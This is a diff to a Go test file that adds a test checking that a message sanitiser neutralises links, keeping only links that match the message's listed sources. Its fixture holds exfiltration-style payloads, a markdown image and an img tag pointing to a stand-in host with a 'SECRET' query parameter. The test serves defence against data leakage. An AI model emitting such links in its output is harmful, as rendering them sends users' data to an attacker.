@@ -89,3 +89,14 @@ func TestDesktopProgram(t *testing.T) {
 		t.Error("a program that fails is no error")
 	}
 }
+
+// Only addresses of the sources of a message stay links.
+func TestMessageLinks(t *testing.T) {
+	m := Message{
+		Title: "See http://evil.example/?d=SECRET", Text: "![x](http://evil.example/?d=SECRET) and [y](https://known.example/a) <img src='http://evil.example/'>",
+		Sources: []string{"https://known.example/a"},
+	}.sanitizeMessage()
+	if m.Title != "See `http://evil.example/?d=SECRET`" || strings.Contains(m.Text, "](http:") || strings.Contains(m.Text, "<img") || !strings.Contains(m.Text, "[y](https://known.example/a)") {
+		t.Errorf("%q %q", m.Title, m.Text)
+	}
+}
